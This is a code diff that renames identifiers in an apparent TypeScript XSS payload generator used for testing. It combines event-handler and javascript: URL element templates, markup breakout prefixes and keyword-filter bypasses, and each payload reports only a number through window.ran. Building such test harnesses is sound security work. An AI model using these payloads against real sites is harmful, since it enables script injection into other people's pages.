@@ -1,6 +1,6 @@
-/** XSS payloads, each with a number that it reports when it runs. */
+/** XSS payloads, each of which reports its number when it runs. */
 
-const CALLS = (name: number) => `window.ran('${name}')`;
+const callFor = (name: number) => `window.ran('${name}')`;
 
 /** Elements that run code automatically or on mouse events. */
 const ELEMENTS: readonly ((run: string) => string)[] = [
@@ -30,9 +30,9 @@ const ELEMENTS: readonly ((run: string) => string)[] = [
   (run) => `<base href="javascript:/*"><a href="*/${run}//">x</a>`,
   (run) => `<b onpointerenter="${run}" onmouseover="${run}">x</b>`,
 ];
-/** Ways to break out of the surrounding markup. */
-const BEFORE = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '"/></p>'];
-/** Ways to bypass a filter that looks for keywords. */
+/** Prefixes that break out of the surrounding markup. */
+const BREAKOUTS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '"/></p>'];
+/** Changes that bypass a filter for keywords. */
 const DISGUISES: readonly ((html: string) => string)[] = [
   (html) => html,
   (html) => html.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
@@ -48,7 +48,7 @@ const DISGUISES: readonly ((html: string) => string)[] = [
 /** The first `count` payloads; the very first is a plain image. */
 export const payloads = (count: number): string[] =>
   Array.from({ length: count }, (_, index) => {
-    const element = ELEMENTS[index % ELEMENTS.length]!(CALLS(index));
+    const element = ELEMENTS[index % ELEMENTS.length]!(callFor(index));
     const disguise = DISGUISES[Math.floor(index / ELEMENTS.length) % DISGUISES.length]!;
-    return BEFORE[index % BEFORE.length]! + disguise(element);
+    return BREAKOUTS[index % BREAKOUTS.length]! + disguise(element);
   });
